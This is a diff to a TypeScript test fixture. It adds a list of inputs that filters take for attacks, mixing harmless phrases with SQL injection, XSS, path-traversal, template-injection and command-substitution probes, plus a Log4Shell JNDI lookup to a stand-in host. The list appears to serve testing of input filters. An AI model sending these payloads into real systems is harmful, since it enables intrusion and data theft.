@@ -35,6 +35,13 @@ const foreign = [
   ...['𝔘𝔫𝔦', 'Ǆ ǅ ǆ', '日本語 ﾃｽﾄ', 'مرحبا ١٢٣', 'हिन्दी', '“quoted” – ‘it’s’', 'é'.repeat(32), '資'.repeat(43)],
 ];
 
+/** Taken for an attack by filters, and ordinary text of a note. */
+export const attackTexts = [
+  ...['Select the best offer from the list', "' OR 1=1 --", 'Drop the table; update the seating', '1 UNION SELECT 2'],
+  ...['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:void(0)', '../../etc/passwd'],
+  ...['{{7*7}}', '<%= 7*7 %>', '$(id)', '`id`', '| cat notes', `\${jndi:ldap://covenant.invalid}`],
+] as const;
+
 /** A text that is taken for something else where it stands alone. */
 export const wholeText = (random: Random): string => wholeTexts(random)[0] ?? '0';
 
